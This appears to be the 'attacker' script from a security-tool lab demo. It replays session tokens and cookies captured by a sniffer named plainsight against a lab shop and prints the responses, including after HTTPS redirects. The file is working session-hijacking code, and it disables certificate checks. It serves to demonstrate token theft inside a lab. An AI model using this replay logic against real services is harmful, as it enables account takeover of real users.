#!/usr/bin/env python3
"""The lab's attacker: replays each newly stolen token or session cookie once against the lab's shop, and
says what came back. It reads the alerts plainsight writes (with --reveal) as they arrive, and runs in the
victim's network namespace, as an attacker on the same LAN would: inside the lab, nowhere else.

    attacker.py ALERTS.jsonl SHOP_IP HOST [--once-per-kind]    (until killed)

`--once-per-kind` (lab/run.sh --fixed): only the first token of each kind and user is replayed, so that
the fixes' steps, told in the same pane, are not pushed off it by a replay per login.

Each replay prints one line: `replay <kind> <user> -> HTTP <status>: <first bytes of the answer>`.
When plain HTTP only redirects to HTTPS (lab/run.sh --fixed), the attacker follows: a token stolen
before the fix is still good over HTTPS until it expires (`-> HTTP 301 -> https: HTTP 200: ...`).
The user name came off the wire and the answer from whoever answered: both reach the terminal through
`shown`, the rule of plainsight's one sanitiser (`output::term::clean`), which tests/lab.rs checks it
against character by character.
"""
import json
import ssl
import sys
import time
import urllib.error
import urllib.request

TOKENS = {"bearer_jwt", "bearer_opaque", "login_response_token"}
COOKIES = {"cookie_token", "set_cookie_insecure"}
done = set()
once_per_kind = False


def unsafe(c):
    """The characters plainsight's sanitiser escapes (output::term::is_unsafe)."""
    o = ord(c)
    return (o <= 0x1F or 0x7F <= o <= 0x9F or o in (0x61C, 0x180E, 0xFEFF) or 0x200B <= o <= 0x200F
            or 0x2028 <= o <= 0x202E or 0x2060 <= o <= 0x206F or 0xFFF9 <= o <= 0xFFFB)


def shown(s, limit):
    """`s` as a terminal may show it: unsafe characters escaped visibly (the backslash too), at most
    `limit` characters kept, then `…(N chars)`."""
    out = []
    for c in s[:limit]:
        if c == "\\":
            out.append("\\\\")
        elif unsafe(c):
            out.append("\\x%02x" % ord(c) if ord(c) < 0x80 else "\\u%04x" % ord(c))
        else:
            out.append(c)
    if len(s) > limit:
        out.append("…(%d chars)" % len(s))
    return "".join(out)


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, req, fp, code, msg, headers, newurl):
        return None


TLS = ssl.create_default_context()
TLS.check_hostname = False
TLS.verify_mode = ssl.CERT_NONE  # the lab's certificate is self-signed
opener = urllib.request.build_opener(NoRedirect, urllib.request.HTTPSHandler(context=TLS))


def replay(path, headers, scheme="http"):
    """(status, first bytes, the status of a redirect to HTTPS followed or None)."""
    req = urllib.request.Request("%s://%s%s" % (scheme, shop, path), headers=dict(headers, Host=host))
    try:
        with opener.open(req, timeout=3) as r:
            return r.status, r.read(60), None
    except urllib.error.HTTPError as e:
        location = e.headers.get("Location") or ""
        if scheme == "http" and e.code in (301, 302, 307, 308) and location.startswith("https://"):
            status, body, _ = replay(path, headers, "https")
            return status, body, e.code
        return e.code, e.read(60), None
    except OSError as e:
        return 0, str(e).encode(), None


def handle(a):
    kind, secret = a.get("kind"), a.get("secret") or ""
    if kind not in TOKENS | COOKIES or a.get("fingerprint") in done or "…[" in secret:
        return
    jwt = a.get("jwt") or {}
    if (jwt.get("validity") or {}).get("state") == "expired":
        return
    done.add(a.get("fingerprint"))
    if once_per_kind:
        if (kind, a.get("user")) in done:
            return
        done.add((kind, a.get("user")))
    if kind in TOKENS:
        status, body, moved = replay("/api/orders", {"Authorization": "Bearer " + secret})
    else:
        name = (a.get("location") or "cookie session").split(" ", 1)[-1]
        status, body, moved = replay("/api/profile", {"Cookie": "%s=%s" % (name, secret)})
    who = a.get("user") or "-"
    text = body.decode("utf-8", "replace").replace("\n", " ")
    via = "HTTP %d -> https: " % moved if moved else ""
    print("replay %s %s -> %sHTTP %d: %s" % (kind, shown(who, 64), via, status, shown(text, 60)), flush=True)


def new_alerts(path, pos):
    """The alerts written to `path` past byte `pos` (whole lines only), and the new position."""
    out = []
    try:
        with open(path, encoding="utf-8") as f:
            f.seek(pos)
            for line in f:
                if not line.endswith("\n"):
                    break
                pos += len(line.encode("utf-8"))
                try:
                    a = json.loads(line)
                except ValueError:
                    continue
                if isinstance(a, dict):
                    out.append(a)
    except FileNotFoundError:
        pass
    return out, pos


def main():
    global shop, host, once_per_kind
    alerts, shop, host = sys.argv[1], sys.argv[2], sys.argv[3]
    once_per_kind = "--once-per-kind" in sys.argv[4:]
    pos = 0
    while True:
        got, pos = new_alerts(alerts, pos)
        for a in got:
            handle(a)
        time.sleep(0.2)


if __name__ == "__main__":
    main()
